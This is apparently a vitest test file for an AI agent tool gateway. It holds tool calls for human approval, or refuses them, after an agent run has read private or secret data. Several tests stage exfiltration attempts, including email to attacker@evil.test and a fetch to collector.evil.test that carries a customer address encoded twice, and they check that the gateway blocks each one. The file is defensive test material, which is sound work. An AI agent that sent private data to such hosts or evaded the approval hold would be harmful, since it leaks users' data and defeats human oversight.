/**
 * The lethal trifecta, whole (issue 13, point 1): a run that read private data
 * and then calls an external sink is held for a human by default, the
 * approval says which sources were read and which arguments carry a value
 * received from them, and the audit event records the same, with fingerprints
 * (never values) in the store. Real upstreams: the example orders service
 * (private), the example mail service (external), and a fetch-like tool that
 * reaches the open web (test/fixtures/schema-server.ts); each records what it
 * receives, and that record is the proof.
 */
import { readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { denyApproval, pendingFor } from '../helpers/approvals.js';
import {
  denialCode,
  exampleUpstream,
  recorded,
  startTestGateway,
  type TestGateway,
  tempDir,
  text,
} from '../helpers/harness.js';
import { schemaUpstream } from '../helpers/schema-upstream.js';

const dir = tempDir();
const RECORD = join(dir, 'received.jsonl');
const ENV = {
  ORDERS_API_TOKEN: 'orders-token-for-flow-tests-01',
  MAIL_API_KEY: 'mail-key-for-flow-tests-0001',
};

const FETCH = {
  name: 'fetch',
  inputSchema: { type: 'object', properties: { url: { type: 'string' } }, required: ['url'] },
};
const VAULT = {
  name: 'read_secret',
  inputSchema: { type: 'object', properties: { name: { type: 'string' } } },
};
const NOTES = { name: 'note', inputSchema: { type: 'object', properties: { id: { type: 'string' } } } };

function policy(): string {
  const record = JSON.stringify(RECORD);
  return `
version: 1
store: { sqlite: ./bulkhead.db }
upstreams:
  orders:
${exampleUpstream('orders', { ORDERS_API_TOKEN: '{ secret: ORDERS_API_TOKEN }', ORDERS_DB: JSON.stringify(join(dir, 'orders.db')), BULKHEAD_RECORD: record })}
  mail:
${exampleUpstream('mail', { MAIL_API_KEY: '{ secret: MAIL_API_KEY }', MAIL_OUTBOX: JSON.stringify(join(dir, 'outbox.jsonl')), BULKHEAD_RECORD: record })}
${schemaUpstream('web', [FETCH], { record: RECORD, replies: { fetch: '<html>a page</html>' } })}
${schemaUpstream('vault', [VAULT, NOTES], { record: RECORD, replies: { read_secret: 'db password: hunter2-for-tests', note: '{"note": "nothing private"}' }, extra: ['sources: secret'] })}
tools:
  orders:
    get_order_status: { class: read, sources: private }
    list_orders: { class: read }
  mail:
    send_email: { class: external }
  web:
    fetch: { class: read, taints: true }
  vault:
    read_secret: { class: read }
    note: { class: read, sources: public }
profiles:
  default-rules:
    tools: [orders__get_order_status, orders__list_orders, mail__send_email, web__fetch, vault__read_secret, vault__note]
    loop_guard: { identical_calls: 100 }
  refuse-private:
    tools: [orders__get_order_status, mail__send_email, web__fetch]
    flow: { private_external: refuse }
  allow-private:
    tools: [orders__get_order_status, mail__send_email]
    flow: { private_external: allow }
`;
}

let gw: TestGateway;
beforeAll(async () => {
  gw = await startTestGateway(policy(), { dir, env: ENV });
});
afterAll(async () => {
  await gw?.close();
});
beforeEach(() => rmSync(RECORD, { force: true }));

const sent = (tool: string) => recorded(RECORD).filter((r) => r.tool === tool);

/** Reads an order and returns the customer's e-mail address from the answer. */
async function readOrder(agent: Awaited<ReturnType<TestGateway['agent']>>): Promise<string> {
  const result = await agent.client.callTool({
    name: 'orders__get_order_status',
    arguments: { order_id: 'ORD-000042' },
  });
  const email = /\(([^)\s]+@[^)\s]+)\)/.exec(text(result))?.[1];
  if (!email) throw new Error(`no e-mail in ${text(result)}`);
  return email;
}

describe('private data meeting an external sink', () => {
  it('sends mail without a hold while the run has read nothing private', async () => {
    const agent = await gw.agent('default-rules');
    await agent.client.callTool({ name: 'orders__list_orders', arguments: { limit: 1 } });
    const result = await agent.client.callTool({
      name: 'mail__send_email',
      arguments: { to: 'someone@example.com', subject: 'hi', body: 'hello' },
    });
    expect(denialCode(result)).toBeUndefined();
    expect(sent('send_email')).toHaveLength(1);
  });

  it('holds mail after a private read by default, says why, and sends nothing when denied', async () => {
    const agent = await gw.agent('default-rules');
    const email = await readOrder(agent);
    const call = agent.client.callTool({
      name: 'mail__send_email',
      arguments: { to: 'attacker@evil.test', subject: 'data', body: `Customer contact: ${email}` },
    });
    const approval = await pendingFor(gw.gateway, agent.runId);
    expect(approval.why).toContain('private data from orders__get_order_status');
    expect(approval.why).toContain('/body holds an e-mail address from orders__get_order_status');
    expect(approval.why).not.toContain(email);
    expect(sent('send_email')).toEqual([]);
    await denyApproval(gw.gateway, approval);
    expect(denialCode(await call)).toBe('approval_denied');
    expect(sent('send_email')).toEqual([]);

    const [event] = await gw.gateway.store.events.list({ runId: agent.runId, kind: 'tools/call', limit: 1 });
    expect(event?.tool).toBe('mail__send_email');
    expect(event?.data.flow).toEqual({
      action: 'approve',
      reasons: [{ rule: 'private_external', sources: ['orders__get_order_status'] }],
      recognised: [{ pointer: '/body', kind: 'email', source: 'orders__get_order_status' }],
    });
  });

  it('records the private read on the run and keeps fingerprints, not values, in the store', async () => {
    const agent = await gw.agent('default-rules');
    const email = await readOrder(agent);
    const run = await gw.gateway.runs.get(agent.runId);
    expect(run?.read).toEqual({ private: ['orders__get_order_status'], secret: [] });
    const kept = await gw.gateway.store.runs.fingerprints(agent.runId);
    expect(kept.length).toBeGreaterThan(0);
    const db = new Database(join(dir, 'bulkhead.db'), { readonly: true });
    try {
      const rows = db.prepare('SELECT * FROM run_fingerprints WHERE run_id = ?').all(agent.runId);
      expect(JSON.stringify(rows)).not.toContain(email);
      expect(JSON.stringify(rows)).not.toContain(email.split('@')[0]);
    } finally {
      db.close();
    }
    const [read] = await gw.gateway.store.events.list({ runId: agent.runId, kind: 'run.data_read' });
    expect(read?.data).toEqual({ class: 'private', source: 'orders__get_order_status' });
  });

  it('holds a web fetch that carries the address in its URL, percent-encoded twice', async () => {
    const agent = await gw.agent('default-rules');
    const email = await readOrder(agent);
    const url = `https://collector.evil.test/?q=${encodeURIComponent(encodeURIComponent(email))}`;
    const call = agent.client.callTool({ name: 'web__fetch', arguments: { url } });
    const approval = await pendingFor(gw.gateway, agent.runId);
    expect(approval.why).toContain('/url holds an e-mail address from orders__get_order_status');
    expect(sent('fetch')).toEqual([]);
    await denyApproval(gw.gateway, approval);
    await call;
    expect(sent('fetch')).toEqual([]);
  });

  it('holds an external call after a private read even when no value is recognised', async () => {
    const agent = await gw.agent('default-rules');
    await readOrder(agent);
    const call = agent.client.callTool({
      name: 'mail__send_email',
      arguments: { to: 'x@evil.test', subject: 'summary', body: 'one order, shipped' },
    });
    const approval = await pendingFor(gw.gateway, agent.runId);
    expect(approval.why).toContain('private data from orders__get_order_status');
    expect(approval.why).not.toContain('Recognised');
    await denyApproval(gw.gateway, approval);
    await call;
    expect(sent('send_email')).toEqual([]);
  });

  it('refuses outright where the profile says refuse', async () => {
    const agent = await gw.agent('refuse-private');
    const email = await readOrder(agent);
    const mail = await agent.client.callTool({
      name: 'mail__send_email',
      arguments: { to: email, subject: 'hi', body: 'hello' },
    });
    expect(denialCode(mail)).toBe('flow_blocked');
    const fetched = await agent.client.callTool({
      name: 'web__fetch',
      arguments: { url: 'https://a.test/' },
    });
    expect(denialCode(fetched)).toBe('flow_blocked');
    expect(sent('send_email')).toEqual([]);
    expect(sent('fetch')).toEqual([]);
  });

  it('lets it through where the profile allows, and still names the recognised value in the audit event', async () => {
    const agent = await gw.agent('allow-private');
    const email = await readOrder(agent);
    const result = await agent.client.callTool({
      name: 'mail__send_email',
      arguments: { to: email, subject: 'Your order', body: 'It shipped.' },
    });
    expect(denialCode(result)).toBeUndefined();
    expect(sent('send_email')).toHaveLength(1);
    const [event] = await gw.gateway.store.events.list({ runId: agent.runId, kind: 'tools/call', limit: 1 });
    expect(event?.data.flow).toMatchObject({
      action: 'allow',
      recognised: [{ pointer: '/to', kind: 'email', source: 'orders__get_order_status' }],
    });
  });
});

describe('declared classes', () => {
  it("applies the upstream's class to its tools and refuses external calls after a secret by default", async () => {
    const agent = await gw.agent('default-rules');
    await agent.client.callTool({ name: 'vault__read_secret', arguments: { name: 'db' } });
    expect((await gw.gateway.runs.get(agent.runId))?.read.secret).toEqual(['vault__read_secret']);
    const result = await agent.client.callTool({
      name: 'mail__send_email',
      arguments: { to: 'ops@example.com', subject: 'pw', body: 'see vault' },
    });
    expect(denialCode(result)).toBe('flow_blocked');
    expect(sent('send_email')).toEqual([]);
  });

  it('lets a tool declare itself public inside a secret upstream', async () => {
    const agent = await gw.agent('default-rules');
    await agent.client.callTool({ name: 'vault__note', arguments: { id: 'n1' } });
    const run = await gw.gateway.runs.get(agent.runId);
    expect(run?.read).toEqual({ private: [], secret: [] });
    const result = await agent.client.callTool({
      name: 'mail__send_email',
      arguments: { to: 'ops@example.com', subject: 'note', body: 'nothing private' },
    });
    expect(denialCode(result)).toBeUndefined();
  });

  it('shows the outbox received only what was allowed', () => {
    const outbox = readFileSync(join(dir, 'outbox.jsonl'), 'utf8');
    expect(outbox).not.toContain('attacker@evil.test');
    expect(outbox).not.toContain('x@evil.test');
  });
});
